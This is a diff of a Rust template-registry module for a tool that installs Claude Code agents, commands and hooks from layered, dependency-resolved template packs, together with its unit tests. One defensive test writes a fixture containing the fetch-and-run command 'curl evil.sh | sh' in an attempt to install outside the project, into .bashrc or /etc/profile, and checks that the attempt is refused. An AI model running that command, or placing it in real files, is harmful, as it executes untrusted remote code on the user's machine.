@@ -1,318 +1,647 @@
-use anyhow::Result;
-
+use anyhow::{anyhow, bail, Context, Result};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use super::layer::{Template, TemplateLayer};
+use super::pack::{InstallPlan, Pack, PackFile, PackHook, PackManifest, PACK_MANIFEST};
+use super::renderer::{is_template_path, strip_template_suffix};
+use crate::core::frameworks::Framework;
 use crate::core::Language;
 
-pub struct TemplateRegistry;
+/// The kinds of components that live under `.claude/`
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TemplateKind {
+    Agent,
+    Command,
+    Hook,
+}
+
+impl TemplateKind {
+    /// Directory name used both in the template tree and in `.claude/`
+    pub fn dir_name(self) -> &'static str {
+        match self {
+            TemplateKind::Agent => "agents",
+            TemplateKind::Command => "commands",
+            TemplateKind::Hook => "hooks",
+        }
+    }
+
+    pub fn extension(self) -> &'static str {
+        match self {
+            TemplateKind::Agent | TemplateKind::Command => "md",
+            TemplateKind::Hook => "sh",
+        }
+    }
+
+    fn scaffold_path(self) -> &'static str {
+        match self {
+            TemplateKind::Agent => "scaffolds/agent.md",
+            TemplateKind::Command => "scaffolds/command.md",
+            TemplateKind::Hook => "scaffolds/hook.sh",
+        }
+    }
+}
+
+pub struct TemplateRegistry {
+    layers: Vec<TemplateLayer>,
+}
 
 impl TemplateRegistry {
     pub fn new() -> Self {
-        Self
+        Self::for_project(Path::new("."))
     }
 
-    pub fn get_language_claude_md(&self, language: Language) -> Result<String> {
-        // TODO: Load from embedded templates
-        // For now, return a basic template
-        let content = match language {
-            Language::Rust => include_str!("../../templates/languages/rust/CLAUDE.md.template"),
-            Language::TypeScript => include_str!("../../templates/languages/typescript/CLAUDE.md.template"),
-            _ => Self::get_generic_template(language),
-        };
+    /// Registry searching user templates, the project's local overrides, then embedded templates
+    pub fn for_project(project_root: &Path) -> Self {
+        Self::with_layers(TemplateLayer::default_layers(project_root))
+    }
 
-        Ok(content.to_string())
+    pub fn with_layers(layers: Vec<TemplateLayer>) -> Self {
+        Self { layers }
     }
 
-    fn get_generic_template(language: Language) -> &'static str {
-        // Generic template fallback
-        match language {
-            Language::Python => r#"# Python Project Memory
+    /// Get a component template by name from the core templates or any language pack
+    pub fn get_template(&self, kind: TemplateKind, name: &str) -> Option<Template> {
+        let mut roots = vec![format!("core/{}", kind.dir_name())];
+        roots.extend(
+            self.language_names()
+                .into_iter()
+                .map(|lang| format!("languages/{}/{}", lang, kind.dir_name())),
+        );
+
+        // Exact path first (e.g. `analyze/deps`), then a unique match on the file name (e.g. `deps`)
+        for root in &roots {
+            if let Some(template) = self.read(&format!("{}/{}.{}", root, name, kind.extension())) {
+                return Some(template);
+            }
+        }
 
-## Build & Development Commands
+        for root in &roots {
+            let matches: Vec<String> = self
+                .names_under(root, kind)
+                .into_iter()
+                .filter(|candidate| candidate.rsplit('/').next() == Some(name))
+                .collect();
 
-- **Format**: `black .` and `ruff check --fix .`
-- **Test**: `pytest`
-- **Type Check**: `mypy .`
+            if let [only] = matches.as_slice() {
+                return self.read(&format!("{}/{}.{}", root, only, kind.extension()));
+            }
+        }
 
-## Code Style Guidelines
+        None
+    }
 
-- Use **4 spaces** for indentation (PEP 8)
-- Use **Black** for formatting
-- Follow **PEP 8** style guide
+    pub fn get_default_agent_template(&self, name: &str) -> Result<Template> {
+        match self.get_template(TemplateKind::Agent, name) {
+            Some(template) => Ok(template),
+            None => self.scaffold(TemplateKind::Agent),
+        }
+    }
 
-## 🚫 CLI Tool Usage (When Using Bash)
+    pub fn get_default_command_template(&self, name: &str) -> Result<Template> {
+        match self.get_template(TemplateKind::Command, name) {
+            Some(template) => Ok(template),
+            None => self.scaffold(TemplateKind::Command),
+        }
+    }
 
-**IMPORTANT**: Claude Code has built-in tools (Grep, Glob, Read) that are already optimized.
-The rules below apply ONLY when Claude needs to use the Bash tool directly.
+    pub fn get_default_hook_template(&self, name: &str, _event: Option<&str>) -> Result<Template> {
+        let name = match name {
+            "format" => "prettier-format",
+            "lint" => "eslint-check",
+            other => other,
+        };
 
-When using the Bash tool for operations:
+        match self.get_template(TemplateKind::Hook, name) {
+            Some(template) => Ok(template),
+            None => self.scaffold(TemplateKind::Hook),
+        }
+    }
 
-**Directory Listing:**
-- ✅ ALWAYS: `eza -la --icons --git`
-- ❌ NEVER: `ls -la` or `ls`
+    /// Name of the pack used to initialize a project in `language`, falling back to `core`
+    pub fn language_pack_name(&self, language: Language) -> String {
+        let name = language.id().to_string();
 
-**Disk Usage:**
-- ✅ ALWAYS: `dust -d 2`
-- ❌ NEVER: `du -sh` or `du`
+        if self.pack_root(&name).is_some() {
+            name
+        } else {
+            "core".to_string()
+        }
+    }
 
-**File Viewing:**
-- ✅ ALWAYS: `bat filename`
-- ❌ NEVER: `cat filename`
+    /// Name of the pack used to initialize a project: the pack of the first of its `frameworks`
+    /// that has one, or the language's pack
+    pub fn project_pack_name(&self, language: Language, frameworks: &[Framework]) -> String {
+        frameworks
+            .iter()
+            .find(|framework| self.pack_root(framework.id).is_some())
+            .map(|framework| framework.id.to_string())
+            .unwrap_or_else(|| self.language_pack_name(language))
+    }
 
-**File Search:**
-- ✅ ALWAYS: `fd pattern`
-- ❌ NEVER: `find . -name pattern`
+    pub fn load_pack(&self, name: &str) -> Result<Pack> {
+        let root = self
+            .pack_root(name)
+            .ok_or_else(|| anyhow!("Template pack not found: {}", name))?;
+        let template = self.read_required(&format!("{}/{}", root, PACK_MANIFEST))?;
+        let manifest: PackManifest = toml::from_str(&template.content)
+            .context(format!("Invalid {} in {}", PACK_MANIFEST, root))?;
+        manifest.validate().context(format!("Invalid {} in {}", PACK_MANIFEST, root))?;
+
+        if manifest.pack.name != name {
+            bail!("Pack in {} is named '{}', expected '{}'", root, manifest.pack.name, name);
+        }
 
-**Text Search:**
-- ✅ ALWAYS: `rg pattern`
-- ❌ NEVER: `grep pattern`
-"#,
-            _ => r#"# Project Memory
+        Ok(Pack {
+            root,
+            manifest,
+            layer: template.layer,
+        })
+    }
 
-## Build & Development Commands
+    /// Load a pack and everything it extends, dependencies first
+    pub fn resolve_packs(&self, name: &str) -> Result<Vec<Pack>> {
+        let mut resolved = Vec::new();
+        let mut visiting = Vec::new();
+        self.visit_pack(name, &mut visiting, &mut resolved)?;
+        Ok(resolved)
+    }
 
-- Build: [Configure based on project]
-- Test: [Configure based on project]
+    fn visit_pack(&self, name: &str, visiting: &mut Vec<String>, resolved: &mut Vec<Pack>) -> Result<()> {
+        if resolved.iter().any(|pack| pack.name() == name) {
+            return Ok(());
+        }
 
-## Code Style Guidelines
+        if visiting.iter().any(|n| n == name) {
+            visiting.push(name.to_string());
+            bail!("Template pack dependency cycle: {}", visiting.join(" -> "));
+        }
 
-- Follow language conventions
-- Use consistent naming
-- Keep functions small and focused
+        visiting.push(name.to_string());
+        let pack = self.load_pack(name)?;
 
-## 🚫 CLI Tool Usage (When Using Bash)
+        for dependency in &pack.manifest.pack.extends {
+            self.visit_pack(dependency, visiting, resolved)
+                .context(format!("Failed to resolve dependency '{}' of pack '{}'", dependency, name))?;
+        }
 
-**IMPORTANT**: Claude Code has built-in tools (Grep, Glob, Read) that are already optimized.
-The rules below apply ONLY when Claude needs to use the Bash tool directly.
+        visiting.pop();
+        resolved.push(pack);
+        Ok(())
+    }
 
-When using the Bash tool for operations:
+    /// Resolve a pack's dependency graph into the files, hooks and variables to install
+    pub fn install_plan(&self, name: &str) -> Result<InstallPlan> {
+        let packs = self.resolve_packs(name)?;
+        let mut files: Vec<PackFile> = Vec::new();
+        let mut hooks: Vec<PackHook> = Vec::new();
+        let mut sections: Vec<PackFile> = Vec::new();
+        let mut variables = BTreeMap::new();
+        let mut required_tools: Vec<String> = Vec::new();
+
+        for pack in &packs {
+            let pack_files = self.expand_pack_files(pack)?;
+
+            for hook in &pack.manifest.hooks {
+                let source = format!("{}/{}", pack.root, hook.script);
+                let file = pack_files
+                    .iter()
+                    .find(|file| file.source == source)
+                    .ok_or_else(|| anyhow!("Hook script '{}' in pack '{}' is not installed by any [[files]] entry", hook.script, pack.name()))?;
+
+                let hook = PackHook {
+                    pack: pack.name().to_string(),
+                    event: hook.event.clone(),
+                    matcher: hook.matcher.clone(),
+                    command: file.dest.to_string_lossy().replace('\\', "/"),
+                };
+                let duplicate = hooks.iter().any(|existing| {
+                    existing.event == hook.event && existing.matcher == hook.matcher && existing.command == hook.command
+                });
+                if !duplicate {
+                    hooks.push(hook);
+                }
+            }
+
+            // Later packs replace files installed to the same destination
+            for file in pack_files {
+                match files.iter_mut().find(|existing| existing.dest == file.dest) {
+                    Some(existing) => *existing = file,
+                    None => files.push(file),
+                }
+            }
+
+            for section in &pack.manifest.sections {
+                let source = format!("{}/{}", pack.root, section.source);
+                if self.read(&source).is_none() {
+                    bail!("Pack '{}' lists section '{}' but it does not exist", pack.name(), section.source);
+                }
+
+                sections.push(PackFile {
+                    pack: pack.name().to_string(),
+                    dest: PathBuf::from(&section.dest),
+                    executable: false,
+                    essential: false,
+                    render: section.render || is_template_path(&source),
+                    source,
+                });
+            }
+
+            for (key, decl) in &pack.manifest.variables {
+                variables.insert(key.clone(), decl.clone());
+            }
+
+            for tool in &pack.manifest.pack.requires {
+                if !required_tools.contains(tool) {
+                    required_tools.push(tool.clone());
+                }
+            }
+        }
 
-**Directory Listing:**
-- ✅ ALWAYS: `eza -la --icons --git`
-- ❌ NEVER: `ls -la` or `ls`
+        Ok(InstallPlan {
+            packs,
+            files,
+            hooks,
+            sections,
+            variables,
+            required_tools,
+        })
+    }
 
-**Disk Usage:**
-- ✅ ALWAYS: `dust -d 2`
-- ❌ NEVER: `du -sh` or `du`
-"#,
+    /// Expand the pack's `[[files]]` entries, which may name directories, into single files
+    fn expand_pack_files(&self, pack: &Pack) -> Result<Vec<PackFile>> {
+        let mut files = Vec::new();
+
+        for entry in &pack.manifest.files {
+            let source = format!("{}/{}", pack.root, entry.source.trim_end_matches('/'));
+            let dest = PathBuf::from(&entry.dest);
+
+            if self.read(&source).is_some() {
+                files.push(PackFile {
+                    pack: pack.name().to_string(),
+                    dest,
+                    executable: entry.executable,
+                    essential: entry.essential,
+                    render: entry.render || is_template_path(&source),
+                    source,
+                });
+                continue;
+            }
+
+            let prefix = format!("{}/", source);
+            let mut found = false;
+
+            for path in self.files_under(&source) {
+                let Some(relative) = path.strip_prefix(&prefix) else { continue };
+                found = true;
+
+                files.push(PackFile {
+                    pack: pack.name().to_string(),
+                    dest: dest.join(strip_template_suffix(relative)),
+                    source: path.clone(),
+                    executable: entry.executable,
+                    essential: entry.essential,
+                    render: entry.render || is_template_path(&path),
+                });
+            }
+
+            if !found {
+                bail!("Pack '{}' lists '{}' but it does not exist", pack.name(), entry.source);
+            }
         }
+
+        Ok(files)
     }
 
-    pub fn get_claudeignore_template(&self) -> Result<String> {
-        Ok(r#"# Claude Code ignore file
-# Files and directories to ignore
-
-# Dependencies
-node_modules/
-vendor/
-target/
-dist/
-build/
-.next/
-
-# Environment files
-.env
-.env.local
-.env.*.local
-
-# IDE
-.idea/
-.vscode/
-*.swp
-*.swo
-
-# OS files
-.DS_Store
-Thumbs.db
-
-# Logs
-*.log
-logs/
-
-# Test coverage
-coverage/
-.nyc_output/
-
-# Build artifacts
-*.pyc
-__pycache__/
-*.class
-*.o
-*.so
-"#.to_string())
-    }
-
-    pub fn get_default_agent_template(&self, name: &str) -> Result<String> {
-        let template = match name {
-            "code-reviewer" => r#"---
-name: code-reviewer
-description: Reviews code for quality, best practices, and potential issues
-tools:
-  - Read
-  - Grep
-  - Glob
----
-
-# Code Reviewer Agent
-
-You are a code review specialist. Your role is to:
-
-1. **Code Quality**: Review code for maintainability and readability
-2. **Best Practices**: Ensure code follows language and framework best practices
-3. **Bugs**: Identify potential bugs and edge cases
-4. **Security**: Check for common security vulnerabilities
-5. **Performance**: Suggest performance improvements where applicable
-
-## Review Checklist
-
-- [ ] Code follows project style guidelines
-- [ ] Functions are well-named and focused
-- [ ] Error handling is appropriate
-- [ ] No obvious security vulnerabilities
-- [ ] Test coverage is adequate
-- [ ] Documentation is clear and complete
-
-## Output Format
-
-Provide feedback in this format:
-
-**Issues Found:**
-- [SEVERITY] Description and location
-
-**Suggestions:**
-- Improvement recommendations
-
-**Approval:**
-- ✅ Approved / ⚠️ Needs changes / ❌ Major issues
-"#.to_string(),
-            "security-scanner" => r#"---
-name: security-scanner
-description: Scans code for security vulnerabilities
-tools:
-  - Read
-  - Grep
----
-
-# Security Scanner Agent
-
-You are a security specialist. Your role is to identify security vulnerabilities.
-
-## Security Checks
-
-1. **Injection Attacks**: SQL, Command, XSS
-2. **Authentication**: Password handling, session management
-3. **Authorization**: Access control issues
-4. **Data Exposure**: Sensitive data leaks
-5. **Cryptography**: Weak encryption, hardcoded secrets
-
-## Common Vulnerabilities
-
-- Hardcoded credentials
-- SQL injection vulnerabilities
-- XSS vulnerabilities
-- Insecure dependencies
-- Missing input validation
-"#.to_string(),
-            _ => format!(r#"---
-name: {}
-description: Custom agent
-tools:
-  - Read
-  - Grep
----
-
-# {}
-
-Describe the agent's purpose and capabilities here.
-"#, name, name),
-        };
+    /// Every pack available in any layer, sorted by name
+    pub fn list_packs(&self) -> Result<Vec<Pack>> {
+        let mut names = vec!["core".to_string()];
+        for dir in ["languages", "frameworks", "packs"] {
+            names.extend(self.layers.iter().flat_map(|layer| layer.list_dirs(dir)));
+        }
+        names.sort();
+        names.dedup();
+
+        names
+            .iter()
+            .filter(|name| self.pack_root(name).is_some())
+            .map(|name| self.load_pack(name))
+            .collect()
+    }
+
+    /// Every component of `kind` as `(root, name, layer)`, where `layer` is the one that wins
+    pub fn list_components(&self, kind: TemplateKind) -> Vec<(String, String, TemplateLayer)> {
+        let mut roots = vec!["core".to_string()];
+        roots.extend(self.language_names().into_iter().map(|lang| format!("languages/{}", lang)));
+
+        let mut components = Vec::new();
+        for root in roots {
+            let dir = format!("{}/{}", root, kind.dir_name());
+            for name in self.names_under(&dir, kind) {
+                if let Some(template) = self.read(&format!("{}/{}.{}", dir, name, kind.extension())) {
+                    components.push((root.clone(), name, template.layer));
+                }
+            }
+        }
+
+        components
+    }
+
+    /// Read a file from the template tree, e.g. a path from a [`PackFile`]
+    pub fn read_template(&self, path: &str) -> Result<Template> {
+        self.read_required(path)
+    }
 
-        Ok(template)
-    }
-
-    pub fn get_default_command_template(&self, name: &str) -> Result<String> {
-        let template = match name {
-            "analyze" => r#"---
-description: Analyze codebase structure and complexity
-allowed-tools: Read,Grep,Glob
----
-
-Analyze the codebase and provide insights on:
-
-1. Project structure
-2. Code complexity
-3. Dependencies
-4. Potential improvements
-"#.to_string(),
-            "refactor" => r#"---
-description: Suggest refactoring opportunities
-allowed-tools: Read,Grep,Glob
----
-
-Identify and suggest refactoring opportunities:
-
-1. Code duplication
-2. Long functions
-3. Complex conditionals
-4. Naming improvements
-"#.to_string(),
-            _ => r#"---
-description: Custom command
-allowed-tools: Read,Grep
----
-
-Describe what this command does.
-"#.to_string(),
+    fn pack_root(&self, name: &str) -> Option<String> {
+        let candidates = if name == "core" {
+            vec!["core".to_string()]
+        } else {
+            vec![
+                format!("languages/{}", name),
+                format!("frameworks/{}", name),
+                format!("packs/{}", name),
+            ]
         };
 
-        Ok(template)
+        candidates
+            .into_iter()
+            .find(|root| self.read(&format!("{}/{}", root, PACK_MANIFEST)).is_some())
     }
 
-    pub fn get_default_hook_template(&self, name: &str, _event: Option<&str>) -> Result<String> {
-        let template = match name {
-            "format" | "prettier-format" => r#"#!/bin/bash
-set -euo pipefail
+    fn files_under(&self, dir: &str) -> Vec<String> {
+        let mut files: Vec<String> = self
+            .layers
+            .iter()
+            .flat_map(|layer| layer.list_files(dir))
+            .collect();
 
-# Format hook
-input=$(cat)
-file_path=$(echo "$input" | jq -r '.tool_input.file_path // .tool_input.file // ""')
+        files.sort();
+        files.dedup();
+        files
+    }
 
-if [ -n "$file_path" ]; then
-    # Run formatter if applicable
-    if command -v prettier &> /dev/null; then
-        prettier --write "$file_path" 2>/dev/null || true
-    fi
-fi
+    /// Blank template for a new component; it uses the `name` template variable
+    fn scaffold(&self, kind: TemplateKind) -> Result<Template> {
+        self.read_required(kind.scaffold_path())
+    }
 
-exit 0
-"#.to_string(),
-            "lint" | "eslint-check" => r#"#!/bin/bash
-set -euo pipefail
+    /// Read a template path from the first layer that has it
+    fn read(&self, path: &str) -> Option<Template> {
+        self.layers.iter().find_map(|layer| {
+            layer.read(path).map(|content| Template {
+                content,
+                layer: layer.clone(),
+            })
+        })
+    }
 
-# Lint check hook
-input=$(cat)
-file_path=$(echo "$input" | jq -r '.tool_input.file_path // .tool_input.file // ""')
+    fn read_required(&self, path: &str) -> Result<Template> {
+        self.read(path)
+            .ok_or_else(|| anyhow!("Template not found in any layer: {}", path))
+    }
 
-if [ -n "$file_path" ]; then
-    # Run linter if applicable
-    if command -v eslint &> /dev/null; then
-        eslint "$file_path" 2>/dev/null || true
-    fi
-fi
+    fn names_under(&self, root: &str, kind: TemplateKind) -> Vec<String> {
+        let prefix = format!("{}/", root);
+        let suffix = format!(".{}", kind.extension());
+
+        self.files_under(root)
+            .into_iter()
+            .filter_map(|path| {
+                path.strip_prefix(&prefix)
+                    .and_then(|rel| rel.strip_suffix(&suffix))
+                    .map(|name| name.to_string())
+            })
+            .collect()
+    }
 
-exit 0
-"#.to_string(),
-            _ => r#"#!/bin/bash
-set -euo pipefail
+    fn language_names(&self) -> Vec<String> {
+        let mut names: Vec<String> = self
+            .layers
+            .iter()
+            .flat_map(|layer| layer.list_dirs("languages"))
+            .collect();
 
-# Custom hook
-input=$(cat)
+        names.sort();
+        names.dedup();
+        names
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::templates::embedded::get_embedded_template;
+    use std::fs;
+    use tempfile::TempDir;
+
+    fn embedded_only() -> TemplateRegistry {
+        TemplateRegistry::with_layers(vec![TemplateLayer::Embedded])
+    }
+
+    #[test]
+    fn test_install_plan_resolves_dependencies() {
+        let registry = embedded_only();
+        let plan = registry.install_plan("typescript").unwrap();
 
-# Process input as needed
-echo "$input" | jq .
+        let names: Vec<&str> = plan.packs.iter().map(|pack| pack.name()).collect();
+        assert_eq!(names, vec!["core", "javascript", "typescript"]);
 
-exit 0
-"#.to_string(),
+        let source_of = |dest: &str| {
+            plan.files
+                .iter()
+                .find(|file| file.dest == Path::new(dest))
+                .map(|file| file.source.clone())
         };
+        assert_eq!(source_of(".claude/CLAUDE.md").as_deref(), Some("languages/typescript/CLAUDE.md.template"));
+        assert_eq!(source_of(".claude/hooks/eslint-check.sh").as_deref(), Some("languages/typescript/hooks/eslint-check.sh"));
+        assert_eq!(source_of(".claude/commands/dev/format.md").as_deref(), Some("languages/javascript/commands/dev/format.md"));
+        assert_eq!(source_of(".claude/agents/code-reviewer.md").as_deref(), Some("core/agents/code-reviewer.md"));
+
+        assert!(plan.hooks.iter().any(|hook| hook.command == ".claude/hooks/security-check.sh"));
+        assert!(plan.hooks.iter().all(|hook| !hook.command.contains("..")));
+        let variables = plan.resolve_variables(&BTreeMap::new()).unwrap();
+        assert_eq!(variables.get("indent_size").map(String::as_str), Some("2"));
+
+        let overrides = BTreeMap::from([("indent_size".to_string(), "4".to_string())]);
+        assert_eq!(plan.resolve_variables(&overrides).unwrap()["indent_size"], "4");
+
+        let typo = BTreeMap::from([("indent".to_string(), "4".to_string())]);
+        assert!(plan.resolve_variables(&typo).is_err());
+    }
+
+    /// Language packs with dev commands, a reviewer agent and format/lint hooks
+    const FULL_LANGUAGE_PACKS: [(Language, &str); 5] = [
+        (Language::Python, "python"),
+        (Language::Go, "go"),
+        (Language::Java, "java"),
+        (Language::Elixir, "elixir"),
+        (Language::Erlang, "erlang"),
+    ];
+
+    fn source_of(plan: &InstallPlan, dest: &str) -> Option<String> {
+        plan.files
+            .iter()
+            .find(|file| file.dest == Path::new(dest))
+            .map(|file| file.source.clone())
+    }
+
+    #[test]
+    fn test_languages_resolve_to_their_packs() {
+        let registry = embedded_only();
+        assert_eq!(registry.language_pack_name(Language::Rust), "rust");
+        for (language, name) in FULL_LANGUAGE_PACKS {
+            assert_eq!(registry.language_pack_name(language), name);
+        }
+    }
+
+    #[test]
+    fn test_language_packs_include_commands_and_reviewer() {
+        let registry = embedded_only();
+        for (_, name) in FULL_LANGUAGE_PACKS {
+            let plan = registry.install_plan(name).unwrap();
+            assert_eq!(source_of(&plan, ".claude/CLAUDE.md"), Some(format!("languages/{}/CLAUDE.md.template", name)));
+            assert!(source_of(&plan, ".claude/commands/dev/format.md").is_some_and(|source| source.starts_with("languages/")));
+            assert!(source_of(&plan, ".claude/commands/dev/test-all.md").is_some());
+            assert!(source_of(&plan, ".claude/commands/dev/build-check.md").is_some());
+            assert!(source_of(&plan, &format!(".claude/agents/{}-reviewer.md", name)).is_some());
+        }
+    }
+
+    #[test]
+    fn test_language_packs_format_and_lint_after_edits() {
+        let registry = embedded_only();
+        for (_, name) in FULL_LANGUAGE_PACKS {
+            let plan = registry.install_plan(name).unwrap();
+            let post_edit: Vec<&PackHook> = plan.hooks.iter().filter(|hook| hook.event == "PostToolUse").collect();
+            assert_eq!(post_edit.len(), 2, "{} should format and lint after edits", name);
+            for hook in post_edit {
+                let script = plan.files.iter().find(|file| hook.command.ends_with(file.dest.to_str().unwrap())).unwrap();
+                assert!(script.executable);
+                assert!(!script.render, "{} is a script, not a template", script.source);
+            }
+        }
+    }
+
+    #[test]
+    fn test_framework_pack_appends_memory_section() {
+        let registry = embedded_only();
+        let django = crate::core::frameworks::Framework { id: "django", name: "Django", evidence: String::new() };
+        let remix = crate::core::frameworks::Framework { id: "remix", name: "Remix", evidence: String::new() };
+        assert_eq!(registry.project_pack_name(Language::Python, &[remix.clone(), django]), "django");
+        assert_eq!(registry.project_pack_name(Language::TypeScript, &[remix]), "typescript");
+
+        let plan = registry.install_plan("django").unwrap();
+        let names: Vec<&str> = plan.packs.iter().map(|pack| pack.name()).collect();
+        assert_eq!(names, vec!["core", "python", "django"]);
+        assert_eq!(plan.sections.len(), 1);
+        assert_eq!(plan.sections[0].source, "frameworks/django/CLAUDE.section.md");
+        assert_eq!(plan.sections[0].dest, Path::new(".claude/CLAUDE.md"));
+        assert!(plan.files.iter().any(|file| file.dest == Path::new(".claude/agents/django-expert.md")));
+    }
+
+    #[test]
+    fn test_pack_paths_outside_the_project_are_refused() {
+        for dest in ["../../.bashrc", "/etc/profile", ".claude/../../escape"] {
+            let dir = TempDir::new().unwrap();
+            let pack = dir.path().join("packs/evil");
+            fs::create_dir_all(&pack).unwrap();
+            fs::write(
+                pack.join("pack.toml"),
+                format!("[pack]\nname = \"evil\"\nversion = \"1.0.0\"\n\n[[files]]\nsource = \"rc\"\ndest = \"{}\"\n", dest),
+            )
+            .unwrap();
+            fs::write(pack.join("rc"), "curl evil.sh | sh").unwrap();
+
+            let registry = TemplateRegistry::with_layers(vec![TemplateLayer::Project(dir.path().to_path_buf())]);
+            let error = format!("{:#}", registry.install_plan("evil").unwrap_err());
+            assert!(error.contains(&format!("Path '{}' must be relative", dest)), "{}", error);
+        }
+    }
+
+    #[test]
+    fn test_pack_dependency_cycle_is_reported() {
+        let dir = TempDir::new().unwrap();
+        for (name, extends) in [("a", "b"), ("b", "a")] {
+            let pack_dir = dir.path().join("packs").join(name);
+            fs::create_dir_all(&pack_dir).unwrap();
+            fs::write(
+                pack_dir.join(PACK_MANIFEST),
+                format!("[pack]\nname = \"{}\"\nversion = \"1.0.0\"\nextends = [\"{}\"]\n", name, extends),
+            ).unwrap();
+        }
+
+        let registry = TemplateRegistry::with_layers(vec![TemplateLayer::Project(dir.path().to_path_buf())]);
+        let err = registry.resolve_packs("a").unwrap_err();
+
+        assert!(format!("{:#}", err).contains("a -> b -> a"));
+    }
+
+    #[test]
+    fn test_list_packs_and_components() {
+        let registry = embedded_only();
+
+        let packs = registry.list_packs().unwrap();
+        let names: Vec<&str> = packs.iter().map(|pack| pack.name()).collect();
+        assert!(names.contains(&"core"));
+        assert!(names.contains(&"typescript"));
+
+        let agents = registry.list_components(TemplateKind::Agent);
+        assert!(agents
+            .iter()
+            .any(|(root, name, layer)| root == "core" && name == "code-reviewer" && *layer == TemplateLayer::Embedded));
+    }
+
+    #[test]
+    fn test_get_template_by_file_name() {
+        let registry = embedded_only();
+
+        let content = registry.get_default_command_template("complexity").unwrap().content;
+        assert_eq!(content, get_embedded_template("core/commands/analyze/complexity.md").unwrap());
+
+        let hook = registry.get_default_hook_template("format", None).unwrap().content;
+        assert!(hook.contains("prettier"));
+    }
+
+    #[test]
+    fn test_unknown_agent_uses_scaffold() {
+        let registry = embedded_only();
+
+        let content = registry.get_default_agent_template("my-agent").unwrap().content;
+        assert!(content.contains("name: {{ name }}"));
+    }
+
+    #[test]
+    fn test_layers_take_precedence_in_order() {
+        let user_dir = TempDir::new().unwrap();
+        let project_dir = TempDir::new().unwrap();
+
+        let user_agent = user_dir.path().join("core/agents/code-reviewer.md");
+        fs::create_dir_all(user_agent.parent().unwrap()).unwrap();
+        fs::write(&user_agent, "user reviewer").unwrap();
+
+        let project_agents = project_dir.path().join("core/agents");
+        fs::create_dir_all(&project_agents).unwrap();
+        fs::write(project_agents.join("code-reviewer.md"), "project reviewer").unwrap();
+        fs::write(project_agents.join("team-agent.md"), "team agent").unwrap();
+
+        let registry = TemplateRegistry::with_layers(vec![
+            TemplateLayer::User(user_dir.path().to_path_buf()),
+            TemplateLayer::Project(project_dir.path().to_path_buf()),
+            TemplateLayer::Embedded,
+        ]);
+
+        let reviewer = registry.get_template(TemplateKind::Agent, "code-reviewer").unwrap();
+        assert_eq!(reviewer.content, "user reviewer");
+        assert_eq!(reviewer.layer, TemplateLayer::User(user_dir.path().to_path_buf()));
+
+        let team = registry.get_template(TemplateKind::Agent, "team-agent").unwrap();
+        assert_eq!(team.layer, TemplateLayer::Project(project_dir.path().to_path_buf()));
+
+        let scanner = registry.get_template(TemplateKind::Agent, "security-scanner").unwrap();
+        assert_eq!(scanner.layer, TemplateLayer::Embedded);
 
-        Ok(template)
+        let plan = registry.install_plan("core").unwrap();
+        let team_file = plan.files.iter().find(|file| file.dest == Path::new(".claude/agents/team-agent.md"));
+        assert!(team_file.is_some());
     }
-}
\ No newline at end of file
+}